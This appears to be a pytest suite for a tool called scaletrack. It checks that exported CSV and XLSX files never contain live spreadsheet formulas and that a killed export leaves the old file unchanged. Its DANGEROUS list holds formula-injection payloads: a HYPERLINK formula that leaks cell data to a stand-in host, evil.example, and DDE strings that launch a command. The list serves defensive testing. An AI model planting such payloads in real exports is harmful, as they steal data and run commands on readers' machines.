"""Every CSV and XLSX scaletrack writes opens in a spreadsheet without running a formula,
and appears only when complete: a killed writer leaves the old file as it was."""

from __future__ import annotations

import csv
import io
import json
import os
import signal
import subprocess
import sys
import time
from datetime import UTC, date, datetime
from decimal import Decimal, InvalidOperation
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from scaletrack.application.importing.row_kinds import IMPORT_KINDS
from scaletrack.application.importing.spreadsheets import SheetWriter, read_sheet
from scaletrack.application.ledger import Ledger
from scaletrack.application.reports.sheets import csv_text, write_xlsx
from scaletrack.application.store import StoreURL
from scaletrack.domain.envelope import Provenance

STARTS = ["=", "+", "-", "@", "\t", "\r"]
"""What Excel and LibreOffice take as the start of a formula."""

DANGEROUS = ['=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")',
             "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1",
             "\r=1+1"]


def evaluated(cell: Any) -> bool:
    """Whether a spreadsheet would run this CSV cell (a number like -3 is just a number)."""
    if not isinstance(cell, str) or not cell.startswith(tuple(STARTS)):
        return False
    try:
        return not Decimal(cell).is_finite()
    except InvalidOperation:
        return True


def csv_cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as file:
        return [cell for row in csv.reader(file) for cell in row]


def xlsx_formulas(path: Path) -> list[Any]:
    """Cells stored as formulas, or texts that would run if typed in again."""
    book = load_workbook(path)
    return [cell.value for sheet in book.worksheets for row in sheet.iter_rows()
            for cell in row if cell.data_type == "f"
            or (evaluated(cell.value) and not cell.quotePrefix)]


texts = st.tuples(st.sampled_from(STARTS), st.text(st.characters(exclude_categories=["Cc", "Cs"]),
                                                 max_size=12)).map("".join)
"""Texts that start like a formula (XLSX cannot hold control characters at all)."""


@settings(max_examples=60, deadline=None)
@given(text=texts, quotes=st.integers(0, 2))
def test_a_csv_row_never_runs_and_reads_back_as_written(tmp_path_factory: Any, text: str,
                                                         quotes: int) -> None:
    text = "'" * quotes + text
    path = tmp_path_factory.mktemp("csv") / "rows.csv"
    with SheetWriter(path, ["kind", "reason"]) as out:
        out.row(["note", text], ["note", text], {})
    assert not any(evaluated(cell) for cell in csv_cells(path))
    [row] = read_sheet(path).rows
    assert row.cells.get("reason", "") == (text if text.strip() else "")


@settings(max_examples=30, deadline=None)
@given(text=texts)
def test_an_xlsx_row_is_text_and_reads_back_as_written(tmp_path_factory: Any,
                                                        text: str) -> None:
    path = tmp_path_factory.mktemp("xlsx") / "rows.xlsx"
    with SheetWriter(path, ["kind", "reason"]) as out:
        out.row(["note", text], ["note", text], {})
    assert xlsx_formulas(path) == []
    [row] = read_sheet(path).rows
    # XML keeps no carriage return: the workbook's reader sees a line feed.
    text = text.replace("\r", "\n")
    assert row.cells.get("reason", "") == (text if text.strip() else "")


@settings(max_examples=30, deadline=None)
@given(text=texts, number=st.integers(-5, 5))
def test_a_view_saved_as_csv_or_xlsx_never_runs_a_text(tmp_path_factory: Any, text: str,
                                                       number: int) -> None:
    document = {"filters": {}, "rows": [{"reason": text, "details": {"note": text},
                                         "value": number}]}
    folder = tmp_path_factory.mktemp("view")
    assert not [c for row in csv.reader(io.StringIO(csv_text(document))) for c in row
                if evaluated(c)]
    write_xlsx(folder / "view.xlsx", document, {"title": text})
    assert xlsx_formulas(folder / "view.xlsx") == []
    assert load_workbook(folder / "view.xlsx")["rows"]["C2"].value == number


def test_negative_numbers_stay_numbers(tmp_path: Path) -> None:
    path = tmp_path / "rows.csv"
    with SheetWriter(path, ["kind", "value"]) as out:
        for value in ("-3", "-1.5", "+2", "-0.25e3"):
            out.row(["result", value], ["result", Decimal(value)], {})
    assert csv_cells(path)[2:] == ["result", "-3", "result", "-1.5", "result", "+2",
                                   "result", "-0.25e3"]


def texts_of(url: str) -> list[list[str]]:
    """Every text of every event in a store, in order."""
    ledger = Ledger(StoreURL.parse(url))
    try:
        return [[text for name, value in vars(event).items() if name not in ("key", "source")
                 for text in (value if isinstance(value, list) else [value])
                 if isinstance(text, str)] for event in ledger.all_events()]
    finally:
        ledger.close()


@pytest.fixture
def hostile(sqlite_url: str) -> str:
    """A store whose texts start with every character a spreadsheet runs as a formula."""
    ledger = Ledger(StoreURL.parse(sqlite_url))
    by = Provenance(date(2022, 1, 3), datetime(2022, 1, 3, 9, tzinfo=UTC), DANGEROUS[3])
    ledger.register_consortium("SEED", DANGEROUS[0], DANGEROUS[1], ["IT", "GR"], by)
    ledger.register_pilot("SEED-GR-01", "SEED", {
        "title": DANGEROUS[2], "innovation": DANGEROUS[3], "origin_country": "IT",
        "target_countries": ["GR"], "core_components": [DANGEROUS[4]],
        "adaptable_components": [DANGEROUS[5]], "starts_on": date(2022, 1, 1),
        "ends_on": date(2023, 6, 30)}, by)
    ledger.close()
    return sqlite_url


def test_import_dump_writes_no_formula_and_imports_back_the_same_events(
        hostile: str, tmp_path: Path, cli: Any) -> None:
    for name in ("all.csv", "all.xlsx"):
        assert cli("--db", hostile, "import", "dump", "-o", str(tmp_path / name)).exit_code == 0
    assert not [c for c in csv_cells(tmp_path / "all.csv") if evaluated(c)]
    assert xlsx_formulas(tmp_path / "all.xlsx") == []
    raw = (tmp_path / "all.csv").read_text(encoding="utf-8")
    for made_safe in ("'=HYPERLINK", "'@SUM", "'-2+3"):
        assert made_safe in raw
    for name in ("all.csv", "all.xlsx"):
        copy = f"sqlite:///{tmp_path / (name + '.db')}"
        assert cli("--db", copy, "init").exit_code == 0
        assert cli("--db", copy, "import", str(tmp_path / name)).exit_code == 0
        assert texts_of(copy) == texts_of(hostile)


def test_export_csv_writes_no_formula_and_the_bundle_still_verifies(
        hostile: str, tmp_path: Path, cli: Any) -> None:
    bundle = tmp_path / "bundle"
    assert cli("--db", hostile, "export", "-o", str(bundle), "--csv").exit_code == 0
    cells = csv_cells(bundle / "events.csv")
    assert not [c for c in cells if evaluated(c)]
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells  # the actor, made safe
    canonical = (bundle / "events.jsonl").read_text(encoding="utf-8")
    assert json.dumps(DANGEROUS[0], ensure_ascii=False) in canonical  # kept as recorded
    assert cli("verify", str(bundle)).exit_code == 0


def test_views_saved_from_the_store_write_no_formula(hostile: str, tmp_path: Path,
                                                     cli: Any) -> None:
    for view in ("timeline", "decisions", "progress"):
        printed = cli("--db", hostile, view, "--format", "csv")
        assert printed.exit_code == 0, printed
        assert not [c for row in csv.reader(io.StringIO(printed.stdout)) for c in row
                    if evaluated(c)]
        assert cli("--db", hostile, view, "-o", str(tmp_path / f"{view}.xlsx")).exit_code == 0
        assert xlsx_formulas(tmp_path / f"{view}.xlsx") == []
    assert "'@SUM" in cli("--db", hostile, "timeline", "--format", "csv").stdout


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_templates_write_no_formula(tmp_path: Path, cli: Any, suffix: str) -> None:
    for kind in IMPORT_KINDS:
        path = tmp_path / f"{kind}{suffix}"
        assert cli("import", "template", kind, "-o", str(path)).exit_code == 0
        bad = ([c for c in csv_cells(path) if evaluated(c)] if suffix == ".csv"
               else xlsx_formulas(path))
        assert bad == [], kind


def test_a_killed_dump_leaves_the_old_file_intact(demo_url: str, tmp_path: Path) -> None:
    target = tmp_path / "everything.csv"
    target.write_text("kind,reason\r\nnote,the old file\r\n", encoding="utf-8")
    old = target.read_bytes()
    scaletrack = Path(sys.executable).with_name("scaletrack")
    writer = subprocess.Popen([str(scaletrack), "--db", demo_url, "import", "dump", "-o",
                               str(target), "--force"], stderr=subprocess.DEVNULL)
    try:
        deadline = time.monotonic() + 60
        while not any(p.stat().st_size > 0 for p in tmp_path.glob(".everything.csv.*")):
            assert writer.poll() is None, "the dump ended before it could be killed"
            assert time.monotonic() < deadline
            time.sleep(0.005)
        os.kill(writer.pid, signal.SIGKILL)
    finally:
        writer.wait()
    assert writer.returncode == -signal.SIGKILL
    assert target.read_bytes() == old
